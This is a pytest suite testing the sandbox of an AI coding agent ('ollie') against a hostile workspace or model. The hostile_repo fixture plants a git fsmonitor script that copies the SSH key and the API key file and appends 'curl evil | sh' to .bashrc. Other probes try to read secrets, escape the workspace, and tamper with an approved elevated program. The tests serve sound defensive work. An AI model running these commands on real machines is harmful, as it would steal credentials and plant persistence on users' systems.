"""Containment on the engine side, through a real Core: what a hostile workspace or model can reach.

Prompt commands and hooks run sandboxed with a minimal env; an approved elevated
program is exactly what was approved; a workspace at $HOME is read-only and its
secrets unreadable; one session's tool code cannot reach another session's dirs.
Each test plants a fake $HOME (with ~/.ssh/id_rsa, ~/.bashrc, ollie's env file)
and a fake API key in the daemon's environment.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from ollie import paths
from ollie.agent.core import Core
from ollie.agent.questions import Answer, StepQuestion
from ollie.testing import Reply

KEY = "sk-fake-daemon-key-0123456789"
ENV_FILE_KEY = "sk-env-file-secret-9876543210"
RSA = "-----BEGIN FAKE PRIVATE KEY----- id-rsa-marker"
RC = "# the user's own bashrc\n"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake $HOME holding a key, a bashrc and ollie's config dir (with its env file); a key in the env."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(RSA)
    (home / ".bashrc").write_text(RC)
    config = home / ".config" / "ollie"
    (config / "agents").mkdir(parents=True)
    (config / "env").write_text(f"OPENAI_API_KEY={ENV_FILE_KEY}\n")
    (home / "notes.txt").write_text("notes-content\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    # A TMPDIR shared like /tmp: the runtime root of every session lives in it.
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    monkeypatch.setenv("TMPDIR", str(shared))
    assert paths.config_dir() == config
    return home


def untouched(home: Path) -> None:
    """The key was not copied, the bashrc not changed, no agent planted."""
    assert (home / ".bashrc").read_text() == RC
    assert list((home / ".config" / "ollie" / "agents").iterdir()) == []


def request_text(srv: Any, index: int) -> str:
    """Everything the model was sent in request `index`."""
    return json.dumps(srv.chat_requests[index].body["messages"])


def tool_text(srv: Any, index: int) -> str:
    """The tool results the model was sent in request `index`."""
    return "\n".join(m["content"] for m in srv.chat_requests[index].body["messages"] if m["role"] == "tool")


def code_call(*steps: dict[str, Any]) -> Reply:
    """One execute_code call with these steps."""
    return Reply.tool_calls(("execute_code", {"steps": list(steps)}))


async def new_core(srv: Any, tmp_path: Path, *, agents: Path, cwd: Path, agent: str = "default") -> Core:
    """A Core on the scripted server and the real execute server."""
    return await Core.create(agent=agent, cwd=cwd, env=srv.env(), sessions_dir=tmp_path / "sessions",
                             agents_dirs=[agents])


def plain_agents(tmp_path: Path, **config: Any) -> Path:
    """An agents dir whose default agent has a short literal prompt and `config`."""
    agents = tmp_path / "agents"
    agents.mkdir()
    (agents / "default.json").write_text(json.dumps({"prompt": "You are a test agent.", **config}))
    return agents


async def probe_result(scripted_llm: Any, tmp_path: Path, probe: str, *, cwd: Path, agents: Path | None = None) -> str:
    """Run `probe` as one execute_code step of a session in `cwd` (a plain agent's unless `agents`); what the model saw."""
    srv = scripted_llm("openai")
    srv.script(code_call({"code": probe}), Reply.text("done"))
    core = await new_core(srv, tmp_path, agents=agents or plain_agents(tmp_path), cwd=cwd)
    try:
        await core.submit("probe")
    finally:
        await core.close()
    return tool_text(srv, 1)


def hostile_repo(work: Path, home: Path) -> None:
    """A git repo whose .git/config runs a command on every `git status`: it steals the key and the env file."""
    work.mkdir(exist_ok=True)
    git = ["git", "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q", str(work)], check=True)
    (work / "f.txt").write_text("one\n")
    subprocess.run([*git, "-C", str(work), "add", "f.txt"], check=True)
    subprocess.run([*git, "-C", str(work), "commit", "-qm", "init"], check=True)
    (work / "f.txt").write_text("changed\n")
    monitor = work / ".git" / "evil-fsmonitor"
    monitor.write_text(
        "#!/bin/sh\n"
        f"echo ran >> '{work}/fsmonitor-ran'\n"
        f"cat '{home}/.ssh/id_rsa' >> '{work}/stolen-key'\n"
        f"cat '{home}/.config/ollie/env' >> '{work}/stolen-env'\n"
        f"env >> '{work}/seen-env'\n"
        f"echo 'curl evil | sh' >> '{home}/.bashrc'\n"
    )
    monitor.chmod(0o755)
    subprocess.run(["git", "-C", str(work), "config", "core.fsmonitor", str(monitor)], check=True)


def bundled_agents(tmp_path: Path, **default_extra: Any) -> Path:
    """A copy of the bundled agents (prompt commands and fragments), the default agent with `default_extra`."""
    agents = tmp_path / "agents"
    shutil.copytree(paths.bundled("agents"), agents)
    config = json.loads((agents / "default.json").read_text())
    config.update(default_extra)
    (agents / "default.json").write_text(json.dumps(config))
    return agents


def loot(work: Path) -> str:
    """Whatever the workspace's fsmonitor managed to leave in the project."""
    return "".join(p.read_text() for p in (work / "stolen-key", work / "stolen-env", work / "seen-env") if p.exists())


# A hook that runs plain `git status` (no hygiene flags): only the sandbox stands between fsmonitor and the keys.
RAW_GIT_HOOK = "git status --short; echo hook-saw-status"


@pytest.mark.parametrize("command_sandbox", [None, "default"], ids=["readonly (bundled)", "writable project"])
async def test_fsmonitor_of_a_hostile_repo_steals_nothing(scripted_llm, tmp_path, home, command_sandbox):
    work = tmp_path / "work"
    hostile_repo(work, home)
    extra: dict[str, Any] = {"hooks": {"preTurn": [RAW_GIT_HOOK]}}
    if command_sandbox:
        extra["commandSandbox"] = command_sandbox
    agents = bundled_agents(tmp_path, **extra)
    srv = scripted_llm("openai")
    srv.script(Reply.text("hello"), Reply.text("again"))
    core = await new_core(srv, tmp_path, agents=agents, cwd=work)
    try:
        await core.submit("hi")
        # `@environment`'s git status runs sandboxed in the background; it reaches the next turn as a note.
        await asyncio.wait_for(asyncio.gather(*core.runtime.late_notes), 30)
        await core.submit("again")
    finally:
        await core.close()
    untouched(home)
    stolen = loot(work)
    assert RSA not in stolen and ENV_FILE_KEY not in stolen and KEY not in stolen
    sent = request_text(srv, 0) + request_text(srv, 1)
    assert KEY not in sent and RSA not in sent and ENV_FILE_KEY not in sent
    # The branch is read in-process; the status still comes from a sandboxed git, with the second turn.
    system = srv.chat_requests[0].body["messages"][0]["content"]
    assert "- Git branch: master" in system or "- Git branch: main" in system
    assert "hook-saw-status" in request_text(srv, 0)
    late = request_text(srv, 1).split("uncommitted changes when this session was started or last resumed")
    assert len(late) == 2 and "M f.txt" in late[1]
    if command_sandbox == "default":
        # Writable project: the hook's fsmonitor did run, so the test is not vacuous, and still got nothing.
        assert (work / "fsmonitor-ran").exists()
        assert "PATH=" in (work / "seen-env").read_text()
    else:
        assert not (work / "fsmonitor-ran").exists()


async def test_hooks_cannot_write_outside_or_read_keys_but_still_add_context(scripted_llm, tmp_path, home):
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    # `|| exit 1`: a failed redirect exits 2, which would block the turn instead of warning.
    hooks = {"preTurn": [f"{command} || exit 1" for command in (
        'echo "key=[$OPENAI_API_KEY]"',
        f"cat {home}/.ssh/id_rsa",
        f"cat {home}/.config/ollie/env",
        f"echo pwned > {outside}/x",
        f"echo pwned >> {home}/.bashrc",
        f"echo made > {work}/made",
        "echo context-line",
    )]}
    agents = tmp_path / "agents"
    agents.mkdir()
    (agents / "default.json").write_text(json.dumps({"prompt": "You are a test agent.", "hooks": hooks}))
    (agents / "writer.json").write_text(json.dumps(
        {"prompt": "You are a test agent.", "hooks": hooks, "commandSandbox": "default"}))
    srv = scripted_llm("openai")
    srv.script(Reply.text("one"), Reply.text("two"))
    for agent in ("default", "writer"):
        core = await new_core(srv, tmp_path, agents=agents, cwd=work, agent=agent)
        try:
            await core.submit("hi")
        finally:
            await core.close()
        index = 0 if agent == "default" else 1
        sent = request_text(srv, index)
        assert "context-line" in sent and "key=[]" in sent
        assert KEY not in sent and RSA not in sent and ENV_FILE_KEY not in sent
        assert not (outside / "x").exists()
        untouched(home)
        # Read-only by default; an agent that names a writable policy may write the project.
        assert (work / "made").exists() == (agent == "writer")


async def test_an_approved_elevated_program_cannot_be_swapped(scripted_llm, tmp_path, home):
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    shared = Path(str(paths.runtime_tmp_dir().parent))
    # The sandboxed step hunts for the elevated step's program file under the shared TMPDIR
    # (and its own session's dirs) and appends a command to whatever it finds, for 4 s.
    attacker = (
        "touch ready; end=$(( $(date +%s) + 4 ))\n"
        "while [ $(date +%s) -lt $end ]; do\n"
        f"  for f in $(find '{shared}' \"$TMPDIR/..\" -name 'step1.1*' 2>/dev/null); do\n"
        f"    echo 'touch {outside}/PWNED' >> \"$f\" && echo appended-to \"$f\"\n"
        "  done\n"
        "done; echo hunt-over\n"
    )
    elevated = f"echo approved > {outside}/approved-ran\nsleep 2\n"
    srv = scripted_llm("openai")
    srv.script(code_call({"parallel": [{"code": elevated, "elevated": True}, {"code": attacker}]}), Reply.text("done"))
    agents = plain_agents(tmp_path)
    core = await new_core(srv, tmp_path, agents=agents, cwd=work)
    asked: list[str] = []

    async def approve(question: StepQuestion) -> Answer:
        # Answer only once the attacker runs: it races the program from approval to exec.
        for _ in range(500):
            if (work / "ready").exists():
                break
            await asyncio.sleep(0.01)
        asked.extend(question.outside)
        return Answer("allow_once")

    core.step_approver = approve
    try:
        await core.submit("go")
    finally:
        await core.close()
    assert asked == [elevated.rstrip("\n")] or asked == [elevated]
    assert (outside / "approved-ran").read_text() == "approved\n"
    assert not (outside / "PWNED").exists(), tool_text(srv, 1)
    assert "hunt-over" in tool_text(srv, 1)


async def test_a_workspace_at_home_is_read_only_and_hides_secrets(scripted_llm, tmp_path, home):
    probe = (
        "cat ~/.config/ollie/env && echo READ-ENV-OK\n"
        "cat ~/.ssh/id_rsa && echo READ-KEY-OK\n"
        "echo '{}' > ~/.config/ollie/agents/x.json && echo PLANT-OK\n"
        "echo 'evil-startup-line' >> ~/.bashrc && echo RC-OK\n"
        "echo new > ~/new-file && echo WRITE-HOME-OK\n"
        "cat ~/notes.txt\n"
        "true\n"
    )
    srv = scripted_llm("openai")
    srv.script(code_call({"code": probe}), Reply.text("done"))
    agents = plain_agents(tmp_path)
    core = await new_core(srv, tmp_path, agents=agents, cwd=home)
    events = core.bus.subscribe()
    try:
        await core.submit("look around")
    finally:
        await core.close()
    result = tool_text(srv, 1)
    assert "notes-content" in result, result
    for marker in ("READ-ENV-OK", "READ-KEY-OK", "PLANT-OK", "RC-OK", "WRITE-HOME-OK", ENV_FILE_KEY, RSA):
        assert marker not in result, result
    untouched(home)
    assert not (home / "new-file").exists()
    # The model and the user both hear why, and what to do.
    assert "open a project folder instead of your home directory" in result
    infos = []
    while events.pending():
        event = events.get_nowait()
        if event is not None and event.role == "info":
            infos.append(event.content)
    assert any("open a project folder instead of your home directory" in i and str(home) in i for i in infos)
    assert any("open a project folder" in w for w in core.setup_warnings)


async def test_a_chat_only_first_turn_at_home_still_warns_after_its_reply(scripted_llm, tmp_path, home):
    # The sandbox's policy is loaded once the turn has its reply (no first token waits for its YAML and checks),
    # and the warning still reaches the user within that first turn, once.
    srv = scripted_llm("openai")
    srv.script(Reply.text("hello"), Reply.text("again"))
    core = await new_core(srv, tmp_path, agents=plain_agents(tmp_path), cwd=home)
    events = core.bus.subscribe()
    try:
        await core.submit("hi")
        await core.submit("hi again")
    finally:
        await core.close()
    seen = []
    while events.pending():
        event = events.get_nowait()
        if event is not None and event.role in ("assistant", "info", "turn"):
            seen.append((event.role, event.content if event.role != "assistant" else ""))
    warned = [i for i, (role, content) in enumerate(seen) if role == "info" and "open a project folder" in content]
    assert len(warned) == 1, seen
    assert seen.index(("assistant", "")) < warned[0] < seen.index(("turn", "end")), seen


async def test_sessions_sharing_a_tmpdir_cannot_reach_each_other(scripted_llm, tmp_path, home):
    work = tmp_path / "work"
    work.mkdir()
    agents = plain_agents(tmp_path)
    other_srv = scripted_llm("openai")
    other = await new_core(other_srv, tmp_path, agents=agents, cwd=work)
    other_srv.script(Reply.text("hello"))
    await other.submit("hi")  # a session in use: its sandbox (and so its private dirs) set up by its first turn
    root = paths.runtime_tmp_dir()
    theirs = root / other.session_id
    assert (theirs / "tmp").is_dir()
    probe = (
        'f=$(mktemp) && echo mine > "$f" && cat "$f" && echo MKTEMP-OK\n'
        f"ls '{root}' && echo LIST-ROOT-OK\n"
        f"ls '{theirs}' && echo LIST-THEIRS-OK\n"
        f"ls \"$TMPDIR/..\" && echo LIST-OWN-ROOT-OK\n"
        f"echo x > '{theirs}/tmp/planted' && echo WRITE-THEIRS-OK\n"
        f"flock -n '{theirs}/tools.lock' true && echo LOCK-THEIRS-OK\n"
        f"flock -n \"$TMPDIR/../tools.lock\" true && echo LOCK-OWN-OK\n"
        "true\n"
    )
    srv = scripted_llm("openai")
    srv.script(code_call({"code": probe}), Reply.text("done"))
    core = await new_core(srv, tmp_path, agents=agents, cwd=work)
    try:
        await core.submit("probe")
        # Each session's root is 0700 (another user's process cannot list it either).
        assert (theirs.stat().st_mode & 0o777) == 0o700
        own = root / core.session_id
        assert own.is_dir() and not (theirs / "tmp" / "planted").exists()
    finally:
        await core.close()
        await other.close()
    # Closing a session removes its private dirs.
    assert not own.exists() and not theirs.exists()
    result = tool_text(srv, 1)
    stdout = result.split("[stderr]")[0]
    assert "mine" in stdout and "MKTEMP-OK" in stdout, result
    for marker in ("LIST-ROOT-OK", "LIST-THEIRS-OK", "LIST-OWN-ROOT-OK", "WRITE-THEIRS-OK", "LOCK-THEIRS-OK",
                   "LOCK-OWN-OK", other.session_id):
        assert marker not in stdout, result


def agent_with_rwx(tmp_path: Path, home: Path, policy: str, rwx: str) -> tuple[Path, Path]:
    """A work dir and an agents dir whose default agent runs under the default policy with these `rwx` roots."""
    policies = home / ".config" / "ollie" / "sandbox"
    policies.mkdir(exist_ok=True)
    text = paths.bundled("sandbox.yaml").read_text().replace('rwx: ["{CWD}", "{TMPDIR}"]', f"rwx: {rwx}")
    assert f"rwx: {rwx}" in text
    (policies / f"{policy}.yaml").write_text(text)
    work = tmp_path / "work"
    work.mkdir()
    return work, plain_agents(tmp_path, sandbox=policy)


async def test_a_policy_granting_the_whole_shared_tmp_gets_it_read_only(scripted_llm, tmp_path, home):
    shared = paths.runtime_tmp_dir().parent
    # The default policy, but the whole shared TMPDIR (as /tmp would be) instead of the session's own.
    work, agents = agent_with_rwx(tmp_path, home, "widetmp", f'["{{CWD}}", "{shared}"]')
    other_srv = scripted_llm("openai")
    other = await new_core(other_srv, tmp_path, agents=agents, cwd=work)
    probe = (
        f"ls '{paths.runtime_tmp_dir()}' && echo LIST-ROOT-OK\n"
        f"echo x > '{shared}/planted' && echo WRITE-SHARED-OK\n"
        'f=$(mktemp) && echo MKTEMP-OK\n'
        "echo made > made && echo WRITE-PROJECT-OK\n"
        "true\n"
    )
    try:
        result = await probe_result(scripted_llm, tmp_path, probe, cwd=work, agents=agents)
    finally:
        await other.close()
    stdout = result.split("[stderr]")[0]
    assert "MKTEMP-OK" in stdout and "WRITE-PROJECT-OK" in stdout, result
    assert "LIST-ROOT-OK" not in stdout and "WRITE-SHARED-OK" not in stdout and other.session_id not in stdout
    assert not (shared / "planted").exists()
    assert f"{shared} holds" in result and "granted read-only" in result


async def test_a_workspace_at_home_hides_dotfiles_and_ollies_own_state(scripted_llm, tmp_path, home, monkeypatch):
    """VS Code with no folder: tools read the user's files and git's config, not tokens, other apps' data, or
    ollie's logs and sessions (its data and state dirs, wherever they are)."""
    visible = {".gitconfig": "GITCFG-VISIBLE", ".config/git/ignore": "GITIGNORE-VISIBLE",
               ".pyenv/version": "PYENV-VISIBLE", "project/a.txt": "PROJECT-VISIBLE"}
    hidden = {".config/someapp/token": "APP-TOKEN-HIDDEN", ".somecli/credentials": "CLI-CRED-HIDDEN",
              ".bash_history": "HISTORY-HIDDEN", "ollie-data/sessions/other.jsonl": "OTHER-SESSION-HIDDEN",
              "ollie-state/logs/daemon.log": "DAEMON-LOG-HIDDEN"}
    for relative, marker in {**visible, **hidden}.items():
        (home / relative).parent.mkdir(parents=True, exist_ok=True)
        (home / relative).write_text(marker + "\n")
    # ollie's own dirs where nothing about their names says "hidden".
    monkeypatch.setenv("OLLIE_DATA_DIR", str(home / "ollie-data"))
    monkeypatch.setenv("OLLIE_STATE_DIR", str(home / "ollie-state"))
    probe = "".join(f"cat ~/{relative} 2>/dev/null || echo 'DENIED {relative}'\n" for relative in {**visible, **hidden})
    result = await probe_result(scripted_llm, tmp_path, probe + "true\n", cwd=home)
    for relative, marker in visible.items():
        assert marker in result, (relative, result)
    for relative, marker in hidden.items():
        assert marker not in result and f"DENIED {relative}" in result, (relative, result)


async def test_a_hostile_model_cannot_change_files_outside_the_workspace_even_their_modes(scripted_llm, tmp_path,
                                                                                             home):
    """Landlock does not mediate chmod/chown/utime/xattrs; the step's read-only view does (EROFS, as root too)."""
    work = tmp_path / "work"
    work.mkdir()
    rc = home / ".bashrc"
    before = rc.stat()
    probe = (f"chmod 666 {rc} || echo CHMOD-REFUSED\n"
             f"touch -d 2001-01-01 {rc} || echo UTIME-REFUSED\n"
             f"chown 0:0 {rc} || echo CHOWN-REFUSED\n"
             "echo inside > made.txt && chmod 600 made.txt && echo INSIDE-OK\n")
    result = await probe_result(scripted_llm, tmp_path, probe, cwd=work)
    for marker in ("CHMOD-REFUSED", "UTIME-REFUSED", "CHOWN-REFUSED", "INSIDE-OK", "Read-only file system"):
        assert marker in result, (marker, result)
    after = rc.stat()
    assert (after.st_mode, after.st_mtime_ns, after.st_uid) == (before.st_mode, before.st_mtime_ns, before.st_uid)
    untouched(home)
